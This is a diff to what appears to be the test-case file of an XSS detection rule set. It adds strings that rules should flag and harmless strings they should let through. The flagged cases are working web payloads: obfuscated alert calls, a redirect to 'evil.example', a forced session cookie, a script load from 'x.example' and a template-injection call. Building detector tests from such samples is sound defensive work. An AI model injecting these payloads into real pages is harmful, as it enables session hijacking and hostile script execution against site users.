@@ -79,6 +79,8 @@ RULE_CASES: dict[str, list[str]] = {
         "window/*foo*/['alert'](1)",
         "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
         "\";location='http://evil.example'//",
+        'document.cookie="session=attacker-chosen; path=/"',
+        "with(document)body.appendChild(createElement('script')).src='//x.example'",
     ],
     "HG-XSS-006": [
         "{{constructor.constructor('alert(1)')()}}",
@@ -115,6 +117,8 @@ BENIGN = [
     '<p style="color:#333;background:url(/bg.png)">hi</p>',
     "<math><mi>x</mi><mo>=</mo><mn>2</mn></math>",
     "How do I read document.cookie in JavaScript?",
+    "if document.cookie == '' the banner shows",
+    "createElement is a DOM method",
     '<button ng-click="save()" aria-label="alert">Save</button>',
     '<p v-html="userBio" x-text="message">',
     "wow!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!",
